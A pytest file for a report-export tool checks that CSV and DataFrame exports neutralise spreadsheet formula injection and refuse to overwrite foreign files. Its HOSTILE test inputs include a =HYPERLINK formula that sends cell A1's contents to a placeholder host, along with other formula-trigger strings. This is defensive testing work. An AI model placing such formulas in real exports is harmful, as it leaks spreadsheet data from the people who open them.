"""No live formulas (issue 15): a CSV and a DataFrame export of a report whose names start with
=HYPERLINK( hold no formula; --csv overwrites only a CSV gkdesk wrote."""
from __future__ import annotations

import csv
import subprocess
import sys

import pytest

pytest.importorskip("pandas")

from gkdesk.export.cells import FORMULA_TRIGGERS, inert_text  # noqa: E402
from gkdesk.export.frames import cells_frame, wide_frame  # noqa: E402
from gkdesk.parsing import parse_text  # noqa: E402
from report_factory import render, values_for  # noqa: E402

HOSTILE = ('=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+1+1", "-2-3", "@SUM(A1)", "\tX", "\rY")


def _live(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("name", HOSTILE)
def test_frames_hold_no_formula(name):
    report = parse_text(render("2021", values_for("2021"), "tabs"), source_path=name + ".txt")
    report.agency = name
    for frame in (cells_frame([report], [name]), wide_frame([report], [name])):
        texts = [v for column in frame.columns for v in frame[column] if isinstance(v, str)]
        assert texts and not any(_live(v) for v in texts)
        assert inert_text(name) in set(frame["agency"])  # the name is kept, only made inert


def _cli(*args, cwd):
    return subprocess.run([sys.executable, "-m", "gkdesk", "export", *args], capture_output=True, text=True, encoding="utf-8", cwd=cwd)


def test_cli_csv_of_a_report_named_like_a_formula_holds_no_formula(tmp_path):
    source = tmp_path / '=HYPERLINK("x").txt'
    source.write_text(render("2021", values_for("2021"), "tabs"), encoding="utf-8")
    target = tmp_path / "cells.csv"
    done = _cli(source.name, "--csv", str(target), cwd=tmp_path)  # the source as given: "=HYPERLINK..."
    assert done.returncode == 0, done.stderr
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    fields = [f for row in rows[1:] for f in row]
    numbers = {f for f in fields if f.lstrip("-").replace(".", "", 1).isdigit()}
    assert fields and not [f for f in fields if f not in numbers and f.startswith(FORMULA_TRIGGERS)]
    assert any(f.startswith("'=HYPERLINK(") for f in fields)


def test_cli_csv_refuses_to_overwrite_what_gkdesk_did_not_write(tmp_path):
    source = tmp_path / "报告.txt"
    text = render("2021", values_for("2021"), "tabs")
    source.write_text(text, encoding="utf-8")
    other = tmp_path / "别人的.csv"
    other.write_text("a,b\n1,2\n", encoding="utf-8")
    for target in (source, other):
        before = target.read_bytes()
        done = _cli(str(source), "--csv", str(target), cwd=tmp_path)
        assert done.returncode == 2 and "未覆盖" in done.stderr and "Traceback" not in done.stderr
        assert target.read_bytes() == before
    ours = tmp_path / "cells.csv"
    assert _cli(str(source), "--csv", str(ours), cwd=tmp_path).returncode == 0
    assert _cli(str(source), "--csv", str(ours), cwd=tmp_path).returncode == 0  # our own: rewritten
    assert _cli(str(source), "--csv", str(other), "--force", cwd=tmp_path).returncode == 0
